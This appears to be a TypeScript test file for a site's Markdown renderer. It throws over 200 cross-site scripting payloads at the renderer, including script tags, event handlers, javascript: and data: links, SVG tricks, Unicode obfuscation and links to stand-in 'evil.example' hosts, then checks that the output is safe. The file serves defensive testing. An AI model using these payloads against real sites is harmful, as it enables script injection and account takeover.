import fc from 'fast-check';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { type Mentionable, mentionedHandles, renderMarkdown } from './markdown.ts';

/** Two people of the space, whose names are an attack by themselves. */
const people: Mentionable = new Map([
  ['bram-visser', { id: 1, name: 'Bram </a><img src=x onerror=alert(1)> "x\' &amp; @els' }],
  ['els', { id: 2, name: '<script>alert(1)</script>' }],
]);

const tags = [
  'p', 'br', 'strong', 'em', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'hr', 'h2', 'h3', 'h4', 'h5', 'h6', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
];
const attributes: Readonly<Record<string, readonly string[]>> = { a: ['href', 'rel', 'class'], ol: ['start'], th: ['align'], td: ['align'] };
const base = 'https://thuis.example.org/spaces/soil/conversations/1';

/** Everything in a rendered text that no post may hold; empty where it is safe. */
function dangersIn(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  const elements = [...document.body.querySelectorAll('*')];
  return [...elements.flatMap(dangersOf), ...strayTags(html), ...(/<!|<\?/.test(html) ? ['a comment or declaration'] : [])];
}

function dangersOf(element: Element): string[] {
  const tag = element.localName;
  if (!tags.includes(tag)) return [`<${tag}>`];
  return [...element.attributes].flatMap(({ name, value }) => {
    if (!(attributes[tag] ?? []).includes(name)) return [`${name} on <${tag}>`];
    if (name === 'href' && !leadsWell(value)) return [`a link to ${value}`];
    if (name === 'class' && !isMention(element)) return [`class ${value}`];
    return name === 'start' && !/^\d+$/.test(value) ? [`start ${value}`] : [];
  });
}

/** To the web, to a mailbox, or to a page of this very site. */
function leadsWell(href: string): boolean {
  return /^(https?|mailto):/i.test(href) || URL.parse(href, base)?.origin === new URL(base).origin;
}

const isMention = (element: Element) =>
  element.getAttribute('class') === 'mention' && /^\/people\/[a-z0-9-]+$/.test(element.getAttribute('href') ?? '') && element.attributes.length === 2;

/** By its letters alone, so that it does not rest on how one parser reads it: each `<` begins a tag that we write like this. */
function strayTags(html: string): string[] {
  const known = new RegExp(`^(</?(${tags.join('|')})( /)?>|<ol start="\\d+">|<t[hd] align="[a-z]+">|<a( class="mention")?( href="[^"<>]*")?( rel="nofollow ugc noopener")?>)`);
  return [...html.matchAll(/</g)].map(({ index }) => html.slice(index)).filter((rest) => !known.test(rest));
}

const attacks: Readonly<Record<string, readonly string[]>> = {
  'a script': [
    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>',
    '<script/xss src="data:,alert(1)"></script>', '"><script>alert(1)</script>', '</p><script>alert(1)</script><p>', '<<script>alert(1)//<</script>',
    '<script x>alert(1)</script 1=2', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\u003cscript\u003ealert(1)\u003c/script\u003e',
    '<ſcript>alert(1)</ſcript>', '＜script＞alert(1)＜/script＞', '<script\u0000>alert(1)</script>', '<noscript><p title="</noscript><script>alert(1)</script>">',
  ],
  'an event handler': [
    '<img src=x onerror=alert(1)>', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img src=x:alert(alt) onerror=eval(src) alt=1>', '<body onload=alert(1)>', '<p onmouseover="alert(1)">over</p>',
    '<a href="#" onclick="alert(1)">x</a>', '<details open ontoggle=alert(1)>', '<video><source onerror="alert(1)">', '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<div/onpointerenter=alert(1)>x</div>', '[x](http://a.example "onclick=alert(1)")',
    '[x](http://a.example "\\" onmouseover=\\"alert(1)")', '[x](http://a.example\' onmouseover=\'alert(1))', '![x" onerror="alert(1)](http://a.example/i.png)',
    '![x](http://a.example/i.png" onerror="alert(1))', '[x](<http://a.example" onclick="alert(1)>)', 'http://a.example/"onmouseover="alert(1)', '<http://a.example/"onmouseover="alert(1)>',
  ],
  'a link that runs': [
    '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x]( javascript:alert(1))', '[x](javascript&colon;alert(1))', '[x](javascript&#58;alert(1))', '[x](javascript&#x3a;alert(1))',
    '[x](&#106;&#97;&#118;&#97;script:alert(1))', '[x](&#x6A&#x61&#x76&#x61script:alert(1))', '[x](java\nscript:alert(1))', '[x](java\tscript:alert(1))', '[x](java&Tab;script:alert(1))',
    '[x](java&NewLine;script:alert(1))', '[x](<java&Tab;script:alert(1)>)', '[x](\u0001javascript:alert(1))', '[x](\u00a0javascript:alert(1))', '[x](\u200bjavascript:alert(1))',
    '[x](\ufeffjavascript:alert(1))', '[x](javascript\u0000:alert(1))', '[x](jav\u00adascript:alert(1))', '[x](javascript：alert(1))', '[x](ʝavascript:alert(1))', '[x](%6Aavascript:alert(1))',
    '[x](javascript%3Aalert(1))', '[x](javascript://www.example.org/%0Aalert(1))', '[x](<javascript:alert(1)>)', '[x](\\javascript:alert(1))', '[x](java\\script:alert(1))',
    '[x](vbscript:msgbox(1))', '[x](VBScript:msgbox(1))', '[x](livescript:alert(1))', '[x](mocha:alert(1))', '[x](view-source:javascript:alert(1))', '[x](feed:javascript:alert(1))', '[x](blob:http://a.example/1)',
    '[x](filesystem:http://a.example/1)', '[x](file:///etc/passwd)', '[x](intent://evil#Intent;scheme=javascript;end)',
  ],
  'a link that is a page': [
    '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', '[x](DATA:text/html,x)', '[x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=)', '![x](data:image/png;base64,AAAA)', '![x](data:text/html,x)', '[x](&#100;ata:text/html,x)',
  ],
  'an autolink': [
    '<javascript:alert(1)>', '<JAVASCRIPT:alert(1)>', '<javascript://x.example/%0Aalert(1)>', '<data:text/html,x>', '<vbscript:x>', '<java\tscript:alert(1)>', 'javascript://a.example/%0Aalert(1)',
    '<http://a.example/<script>alert(1)</script>>', 'http://a.example/<script>alert(1)</script>', 'http://a.example/&quot;onclick=alert(1)', '<a@b.example?subject="><script>>', 'mailto:a@b.example"onclick=x',
  ],
  'a link by reference': [
    '[x]\n\n[x]: javascript:alert(1)', '[x][y]\n\n[y]: JAVASCRIPT:alert(1)', '[x]\n\n[x]: <javascript:alert(1)>', '[x]\n\n[x]: data:text/html,x', '[x]\n\n[x]: &#106;avascript:alert(1)',
    '[x]\n\n[x]: http://a.example "\\"><script>alert(1)</script>"', '![x]\n\n[x]: javascript:alert(1)', '[x]\n\n[X]: vbscript:x \'"onclick=alert(1)\'', '[a\\](javascript:alert(1))]\n\n[a]: javascript:alert(1)',
  ],
  'nested brackets': [
    '[[x](javascript:alert(1))](http://a.example)', '[![x](javascript:alert(1))](javascript:alert(2))', '![![x](javascript:alert(1))](http://a.example)', '[x](http://a.example)[y](javascript:alert(1))',
    '[x](((javascript:alert(1))))', '[](javascript:alert(1))', '[`x`](javascript:alert(1))', '[<script>](http://a.example)', '![<img onerror=alert(1)>](http://a.example)', '[x](http://a.example?<script>)',
    '[x](http://a.example/)<!-- ](javascript:alert(1)) -->', '![a](b)![c](javascript:d)[e](data:f)',
  ],
  'a comment': [
    '<!-- <script>alert(1)</script> -->', '<!--><img src=x onerror=alert(1)>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![CDATA[<script>alert(1)</script>]]>', '<?php echo 1 ?>', '<?xml version="1.0"?>',
    '<!DOCTYPE html><script>alert(1)</script>', '<! --x-- onclick=alert(1)>', '--!><script>alert(1)</script>',
  ],
  'drawings and formulas': [
    '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>', '<svg/onload=alert(1)//',
    '<svg><foreignObject><iframe srcdoc="x"></foreignObject></svg>',
  ],
  'other elements': [
    '<style>@import "//evil.example/x.css"</style>', '<p style="background:url(javascript:alert(1))">x</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<iframe src=javascript:alert(1)></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="data:text/html,x"></object>', '<embed src=javascript:alert(1)>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href=//evil.example/>',
    '<form action=//evil.example><input name=x></form>', '<button formaction=javascript:alert(1)>x</button>', '<textarea>x</textarea><script>', '<title></title><script>alert(1)</script>', '<template><script>alert(1)</script></template>',
    '<turbo-stream action="append" target="main"><template>x</template></turbo-stream>', '<turbo-frame src="/me" loading="eager"></turbo-frame>', '<draft-keeper data-path="/me?_method=DELETE"></draft-keeper>', '<dialog open>x</dialog>',
    '<xss contenteditable autofocus onfocus=alert(1)>', '<a id="main" name="main">x</a>', '<applet code=x>', '<portal src=//evil.example>', '<isindex action=javascript:alert(1)>', '</div></main><h1>Ours</h1>',
  ],
  'a mention': [
    '@bram-visser', '@els', '(@els)', '**@els**', '@els@els', '@bram-visser<script>alert(1)</script>', '[@els](javascript:alert(1))', '[@els](http://a.example)', 'http://a.example/ @els', '@els"onclick="alert(1)',
    '![ @els](http://a.example/i.png)', '@els&lt;script&gt;', '> @els', '# @els', '|a|\n|-|\n|@els|', '@constructor', '@__proto__', '[x](http://a.example " @els ")',
  ],
  'a table': [
    '|a|\n|:-|\n|<script>alert(1)</script>|', '|a|b|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|x|', '|<b onclick=alert(1)>|\n|-|\n|x|', '|a|\n|:-" onclick="alert(1)|\n|x|', '|[x](javascript:alert(1))|\n|-|\n|`<script>`|',
    '|a\\|<script>|\n|-|\n|x|',
  ],
  'a code block': [
    '```<script>alert(1)</script>\nx\n```', '```js" onclick="alert(1)\nx\n```', '```"><img src=x onerror=alert(1)>\nx\n```', '```\n</code></pre><script>alert(1)</script>\n```', '~~~html\n<script>alert(1)</script>\n~~~',
    '    <script>alert(1)</script>', '`<script>alert(1)</script>`', '`` ` </code><script>alert(1)</script> ``', '```js\u0000"><script>\nx\n```', '```\n@els</code>\n',
  ],
  'a list or heading': [
    '1. <script>alert(1)</script>', '9999999999. x', '007. x', '* <img src=x onerror=alert(1)>', '# <script>alert(1)</script>', '<h1 onclick=alert(1)>x</h1>', 'x\n===<script>', '###### [x](javascript:alert(1))', '> > > <svg onload=alert(1)>',
  ],
  'letters that deceive': [
    '\u202e<script>alert(1)</script>', '\ud83d<script>alert(1)</script>', '\u2028<img src=x onerror=alert(1)>', '<\u0000script>alert(1)</script>', '<img\u000bsrc=x\u000conerror=alert(1)>', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u001b[x](javascript:alert(1))', '&Lt;script&gt;', '&amp;lt;script&amp;gt;', '\\<script>alert(1)\\</script>', '[x](//evil.example)', '[x](///evil.example)', '[x](/\\evil.example)', '[x](\\\\evil.example)', '[x](</\t/evil.example>)', '[x](/&#9;/evil.example)',
  ],
};

const vectors = Object.entries(attacks).flatMap(([kind, sources]) => sources.map((source) => ({ kind, source, name: JSON.stringify(source) })));

describe('what somebody writes to do harm', () => {
  it('is tried in many ways', () => {
    expect(vectors.length).toBeGreaterThanOrEqual(200);
  });

  it.each(vectors)('$kind does nothing: $name', ({ source }) => {
    expect(dangersIn(renderMarkdown(source, people))).toEqual([]);
  });

  it.each(vectors)('$kind does nothing inside other marks: $name', ({ source }) => {
    const nested = [`> ${source}`, `- ${source}`, `**${source}**`, `[${source}](http://a.example)`, `![${source}](http://a.example)`, `\`\`\`${source}\nx`, `x\n\n${source}${source}`];
    expect(nested.flatMap((each) => dangersIn(renderMarkdown(each, people)))).toEqual([]);
  });
});

describe('the look-out itself', () => {
  it.each([
    '<script></script>', '<p onclick="x">a</p>', '<p style="x">a</p>', '<a href="javascript:x">a</a>', '<a href="//evil.example">a</a>', '<a href="/\t/evil.example">a</a>', '<a href="data:text/html,x">a</a>',
    '<a class="mention" href="/me">a</a>', '<a class="button">a</a>', '<img src="x">', '<!-- x -->', '<p<b>', '<div>a</div>', '<a href="a"b">x</a>',
  ])('sees %s', (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });
});

/** Letters that mean something to Markdown or HTML, put together at random. */
const marks = fc
  .array(
    fc.constantFrom(
      '<', '>', '"', "'", '&', ';', '#', '=', '/', '\\', '(', ')', '[', ']', '!', '*', '_', '`', '```', '~~', '|', '-', ':', '@', '\n', '\n\n', ' ', '    ', '\t', '\0', 'a', '1.', 'javascript:', 'data:', 'http://a.example', 'mailto:',
      'script', 'onerror=', 'style=', 'href=', '&#x6a;', '&quot;', '<!--', '-->', '<a ', '<svg', '@els', '@bram-visser', '|-|\n', '\u200b', '😀', '\ud800',
    ),
    { maxLength: 60 },
  )
  .map((parts) => parts.join(''));

describe('any text at all', () => {
  it('yields nothing but what a post may hold', () => {
    const text = fc.oneof(marks, fc.string({ unit: 'binary', maxLength: 200 }), fc.string({ unit: 'grapheme', maxLength: 200 }));
    const look = (source: string) => {
      expect(dangersIn(renderMarkdown(source, people))).toEqual([]);
    };
    fc.assert(fc.property(text, look), { numRuns: 1500 });
  });

  it('yields nothing else with any name to mention', () => {
    const name = fc.oneof(marks, fc.string({ unit: 'binary', minLength: 1, maxLength: 120 }));
    const render = (called: string) => renderMarkdown('Ask @els, *@els* and [@els](http://a.example).', new Map([['els', { id: 2, name: called }]]));
    const look = (called: string) => {
      expect(dangersIn(render(called))).toEqual([]);
    };
    fc.assert(fc.property(name, look), { numRuns: 500 });
  });

  it('is rendered the same each time', () => {
    const renderTwice = (source: string) => {
      expect(renderMarkdown(source, people)).toBe(renderMarkdown(source, people));
    };
    fc.assert(fc.property(marks, renderTwice), { numRuns: 300 });
  });

  it('is taken as text where it is put into a code block', () => {
    fc.assert(
      fc.property(marks, (source) => {
        const lines = source.replace(/[`~\0]/g, '').replace(/\ud800/g, '\ufffd').replace(/\t/g, ' ');
        const { document } = parseHTML(`<body>${renderMarkdown(`\`\`\`\n${lines}\n\`\`\``, people)}</body>`);
        expect(document.querySelector('pre code')?.textContent).toBe(`${lines}\n`);
      }),
      { numRuns: 300 },
    );
  });
});

describe('ordinary Markdown', () => {
  it.each([
    ['plain words', 'Water it.', '<p>Water it.</p>'],
    ['paragraphs', 'One.\n\nTwo.', '<p>One.</p>\n<p>Two.</p>'],
    ['a line that ends where it was ended', 'One\nTwo', '<p>One<br />\nTwo</p>'],
    ['bold, italic, struck out', '**a** *b* ~~c~~', '<p><strong>a</strong> <em>b</em> <s>c</s></p>'],
    ['a quote', '> It stays cold.\n\nMore grass.', '<blockquote>\n<p>It stays cold.</p>\n</blockquote>\n<p>More grass.</p>'],
    ['a list', '- leaves\n- straw', '<ul>\n<li>leaves</li>\n<li>straw</li>\n</ul>'],
    ['a numbered list that goes on', '3. turn\n4. wait', '<ol start="3">\n<li>turn</li>\n<li>wait</li>\n</ol>'],
    ['a link', '[soil](https://a.example/x?y=1&z=2)', '<p><a href="https://a.example/x?y=1&amp;z=2" rel="nofollow ugc noopener">soil</a></p>'],
    ['a bare address', 'See https://a.example/x.', '<p>See <a href="https://a.example/x" rel="nofollow ugc noopener">https://a.example/x</a>.</p>'],
    ['an address that begins with www', 'On www.a.example/x, or www.', '<p>On <a href="https://www.a.example/x" rel="nofollow ugc noopener">www.a.example/x</a>, or www.</p>'],
    ['names of files and hosts, as written', 'report.md and a.example', '<p>report.md and a.example</p>'],
    ['www within something else, as written', '/srv/www.a.example a@www.a.example www.a@b.example a.www.b.example', '<p>/srv/www.a.example a@www.a.example www.a@b.example a.www.b.example</p>'],
    ['a way within the house', '[here](/spaces/soil)', '<p><a href="/spaces/soil" rel="nofollow ugc noopener">here</a></p>'],
    ['what is no page, as written', '[a](ftp://a.example) [b](tel:112) [c](spaces)', '<p>[a](ftp://a.example) [b](tel:112) [c](spaces)</p>'],
    ['a mailbox', '<anna@a.example>', '<p><a href="mailto:anna@a.example" rel="nofollow ugc noopener">anna@a.example</a></p>'],
    ['a picture, as a link to it', '![heap](https://a.example/h.jpg)', '<p><a href="https://a.example/h.jpg" rel="nofollow ugc noopener">heap</a></p>'],
    ['a picture without words', '![](https://a.example/h.jpg)', '<p><a href="https://a.example/h.jpg" rel="nofollow ugc noopener">https://a.example/h.jpg</a></p>'],
    ['code', 'Say `<b>`.', '<p>Say <code>&lt;b&gt;</code>.</p>'],
    ['a code block', '```js\na < b\n```', '<pre><code>a &lt; b\n</code></pre>'],
    ['a line across', 'a\n\n---\n\nb', '<p>a</p>\n<hr />\n<p>b</p>'],
    ['headings below the page’s own', '# One\n\n## Two', '<h2>One</h2>\n<h3>Two</h3>'],
    ['a table', '|a|b|\n|-|-|\n|1|2|', '<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>'],
    ['emoji, accents and other alphabets', 'Crème 🌱 العربية', '<p>Crème 🌱 العربية</p>'],
    ['letters that mean something in HTML', 'a < b & c > d "e"', '<p>a &lt; b &amp; c &gt; d "e"</p>'],
    ['nothing', ' \n ', ''],
  ])('gives %s', (_, source, html) => {
    expect(renderMarkdown(source)).toBe(html);
  });

  it('names somebody of the space, and keeps everyone else as written', () => {
    const names = new Map([['anna', { id: 1, name: 'Anna de Wit' }]]);
    expect(renderMarkdown('Ask @anna, (@anna) or @nobody, not `@anna`.', names)).toBe(
      '<p>Ask <a class="mention" href="/people/anna">@Anna de Wit</a>, (<a class="mention" href="/people/anna">@Anna de Wit</a>) or @nobody, not <code>@anna</code>.</p>',
    );
    expect(renderMarkdown('https://a.example/@anna and anna@anna', names)).not.toContain('mention');
  });

  it('keeps how the columns of a table are aligned', () => {
    expect(renderMarkdown('|a|\n|-:|\n|1|')).toContain('<td align="right">1</td>');
  });

  it('never puts a link into a link', () => {
    const { document } = parseHTML(`<body>${renderMarkdown('[![heap](https://a.example/h.jpg)](https://a.example)')}</body>`);
    expect(document.querySelectorAll('a a')).toHaveLength(0);
  });

  it('puts every heading below the one that it stood below', () => {
    expect(renderMarkdown('# One\n\n### Three')).not.toMatch(/<(h\d)>One<\/\1>\n<\1>Three/);
  });
});

describe('handles in a text', () => {
  it('are found once each, outside code', () => {
    expect(mentionedHandles('@anna and @bram-visser, @anna again; `@els`\n\n```\n@dirk\n```')).toEqual(['anna', 'bram-visser']);
    expect(mentionedHandles('mail@anna.example, a@b, @@anna, @-anna')).toEqual([]);
  });

  it('are not found in code of any kind', () => {
    expect(mentionedHandles('~~~\n@anna\n~~~\n\n    @bram\n\n`` ` @els ``')).toEqual([]);
  });

  it('are those that the text shows as links', () => {
    const names = new Map(['anna', 'els'].map((handle, id) => [handle, { id, name: handle }]));
    const text = fc.array(fc.constantFrom('@anna', '@els', '@nobody', ' ', '\n\n', '.', ',', '(', ')', '*', 'word'), { maxLength: 20 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, (source) => {
        const shown = [...renderMarkdown(source, names).matchAll(/href="\/people\/([a-z]+)"/g)].map((match) => match[1] ?? '');
        for (const handle of mentionedHandles(source).filter((each) => names.has(each))) expect(shown).toContain(handle);
      }),
      { numRuns: 300 },
    );
  });
});
